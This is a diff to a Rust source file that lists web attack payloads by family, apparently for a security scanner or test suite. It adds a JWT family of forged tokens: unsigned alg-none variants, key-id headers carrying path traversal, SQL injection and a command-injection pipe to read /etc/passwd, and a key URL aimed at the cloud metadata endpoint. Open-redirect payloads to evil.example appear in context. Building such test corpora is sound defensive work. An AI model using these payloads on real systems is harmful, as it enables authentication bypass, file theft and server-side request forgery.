@@ -17,7 +17,7 @@ pub struct Family {
     pub payloads: &'static [&'static str],
 }
 
-/// Every family: 14 of them.
+/// Every family: 15 of them.
 pub const FAMILIES: &[Family] = &[
     Family {
         name: "sqli",
@@ -269,6 +269,29 @@ pub const FAMILIES: &[Family] = &[
             "//app.example.test@203.0.113.9/",
             "/\\/203.0.113.9/",
             "/\n/evil.example",
+        ],
+    },
+    // JSON Web Tokens forged to pass unsigned (`alg` none in any case), or
+    // whose header's key id or key URL is an injection.
+    Family {
+        name: "jwt",
+        param: "token",
+        case_insensitive: false,
+        payloads: &[
+            // {"alg":"none","typ":"JWT"}
+            "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.",
+            // {"alg":"None"}
+            "eyJhbGciOiJOb25lIn0.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.c2lnbmF0dXJl",
+            // {"typ":"JWT","alg":"NONE"}
+            "eyJ0eXAiOiJKV1QiLCJhbGciOiJOT05FIn0.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.",
+            // {"alg":"HS256","typ":"JWT","kid":"../../../../../../dev/null"}
+            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ii4uLy4uLy4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.Zm9yZ2Vk",
+            // {"alg":"HS256","kid":"x' UNION SELECT 'secret'-- "}
+            "eyJhbGciOiJIUzI1NiIsImtpZCI6IngnIFVOSU9OIFNFTEVDVCAnc2VjcmV0Jy0tICJ9.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.Zm9yZ2Vk",
+            // {"alg":"RS256","jku":"http://169.254.169.254/latest/meta-data/"}
+            "eyJhbGciOiJSUzI1NiIsImprdSI6Imh0dHA6Ly8xNjkuMjU0LjE2OS4yNTQvbGF0ZXN0L21ldGEtZGF0YS8ifQ.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.Zm9yZ2Vk",
+            // {"alg":"HS256","kid":"key|cat /etc/passwd"}
+            "eyJhbGciOiJIUzI1NiIsImtpZCI6ImtleXxjYXQgL2V0Yy9wYXNzd2QifQ.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.Zm9yZ2Vk",
         ],
     },
 ];
